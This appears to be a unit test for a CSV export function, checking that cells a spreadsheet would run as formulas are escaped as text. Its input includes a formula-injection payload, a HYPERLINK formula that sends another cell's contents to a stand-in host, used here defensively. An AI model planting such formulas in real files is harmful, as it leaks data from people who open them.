import { toCsv } from './download-csv';

describe('toCsv (the reports\' CSV exports)', () => {
  it('keeps a cell a spreadsheet would run as a formula as text, and numbers as numbers', async () => {
    const csv = await toCsv([
      { name: '=HYPERLINK("https://evil.test/?"&E2,"Open")', page: '+254712345678', note: '@SUM(1+1)', other: '-1+2', tab: '\tx', leads: -3 },
      { name: 'Toyota Prado', page: '/car/toyota-prado-2019', note: 'a = b', other: '', tab: '', leads: 4 },
    ]);
    const [header, hostile, plain] = csv.replace(/^\uFEFF/, '').split('\r\n');
    expect(header).toBe('name,page,note,other,tab,leads');
    // papaparse quotes the cells it escapes.
    expect(hostile).toBe(`"'=HYPERLINK(""https://evil.test/?""&E2,""Open"")","'+254712345678","'@SUM(1+1)","'-1+2","'\tx",-3`);
    expect(plain).toBe('Toyota Prado,/car/toyota-prado-2019,a = b,,,4');
  });
});
